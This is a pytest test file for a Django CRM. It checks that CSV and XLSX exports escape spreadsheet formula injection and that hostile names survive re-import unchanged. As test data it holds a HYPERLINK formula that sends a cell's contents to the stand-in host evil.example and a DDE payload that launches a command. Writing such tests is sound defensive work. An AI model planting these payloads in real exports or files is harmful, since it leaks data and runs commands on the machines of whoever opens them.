"""Every CSV and XLSX the app writes opens in a spreadsheet without running a formula."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest
from django.urls import reverse

from crm.accounts import enable_admin_editing
from crm.models import Company
from crm.spreadsheets import FORMULA_STARTS, safe_cell
from tests.factories import PASSWORD, make_application, make_company, make_contact, make_interaction
from tests.imports.test_import_admin import admin_import

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
CSV, XLSX = "0", "1"
RESOURCES = {
    "contacts_contact": "contactresource",
    "crm_company": "companyresource",
    "crm_jobapplication": "jobapplicationresource",
    "contacts_interaction": "feedbackfromtextinteractionresource",
}


@pytest.fixture
def hostile(alice):
    company = make_company(alice, name=HYPERLINK, notes="@SUM(A1:A9)")
    contact = make_contact(
        alice,
        first_name=HYPERLINK,
        last_name="-2+3",
        company=company,
        title="\t=1+1",
        phone="+1+cmd|' /C calc'!A0",
        notes="\r=1+1",
        check_in_months=3,
    )
    make_interaction(alice, contact=contact, subject=HYPERLINK, body="=1+1")
    make_application(alice, company=company, title="@evil", notes=HYPERLINK)
    return contact


def no_formula(cells) -> None:
    starts = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS)]
    assert starts == []


def admin_export(client, app_model: str, fmt: str):
    resource = RESOURCES[app_model]
    app, model = app_model.split("_", 1)
    page = client.get(reverse(f"admin:{app}_{model}_export")).content.decode()
    fields = {name: "on" for name in re.findall(rf'name="({resource}_\w+)"', page)}
    return client.post(
        reverse(f"admin:{app}_{model}_export"), {"format": fmt, "resource": "0", **fields}
    )


def test_the_contacts_csv_download_has_no_cell_that_starts_a_formula(alice_client, hostile):
    response = alice_client.get(reverse("followups:export-contacts-csv"))

    rows = list(csv.reader(io.StringIO(response.getvalue().decode())))
    for row in rows:
        no_formula(row)
    data = dict(zip(rows[0], rows[1], strict=True))
    assert data["first_name"] == "'" + HYPERLINK
    assert data["company"] == "'" + HYPERLINK
    assert data["notes"] == "'\r=1+1"
    assert data["check_in_months"] == "3"


@pytest.mark.parametrize("app_model", sorted(RESOURCES))
def test_every_admin_csv_export_has_no_cell_that_starts_a_formula(
    client, alice, hostile, app_model
):
    enable_admin_editing(alice)
    client.login(username="alice", password=PASSWORD)

    response = admin_export(client, app_model, CSV)

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 2
    for row in rows:
        no_formula(row)
    assert any(cell.startswith("'") for cell in rows[1])


@pytest.mark.parametrize("app_model", sorted(RESOURCES))
def test_every_admin_xlsx_export_stores_text_not_formulas(client, alice, hostile, app_model):
    enable_admin_editing(alice)
    client.login(username="alice", password=PASSWORD)

    response = admin_export(client, app_model, XLSX)

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    no_formula(cell.value for cell in cells)


def test_numbers_in_the_xlsx_export_stay_numbers(client, alice, hostile):
    enable_admin_editing(alice)
    client.login(username="alice", password=PASSWORD)

    response = admin_export(client, "contacts_contact", XLSX)

    rows = list(openpyxl.load_workbook(io.BytesIO(response.content)).active.values)
    assert dict(zip(rows[0], rows[1], strict=True))["check_in_months"] == 3


def test_an_exported_hostile_name_imports_back_unchanged(client, alice, hostile):
    enable_admin_editing(alice)
    client.login(username="alice", password=PASSWORD)
    content = admin_export(client, "crm_company", CSV).content
    hostile.company.delete()

    admin_import(client, "crm_company", content.replace(b"\xef\xbb\xbf", b""), "c.csv")

    assert list(Company.objects.filter(owner=alice).values_list("name", flat=True)) == [HYPERLINK]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("-3", "-3"),
        ("+49 30 1234567", "'+49 30 1234567"),
        ("Maya", "Maya"),
        (3, 3),
        (None, None),
        ("", ""),
    ],
)
def test_a_cell_is_neutralised_only_when_it_would_start_a_formula(value, expected):
    assert safe_cell(value) == expected
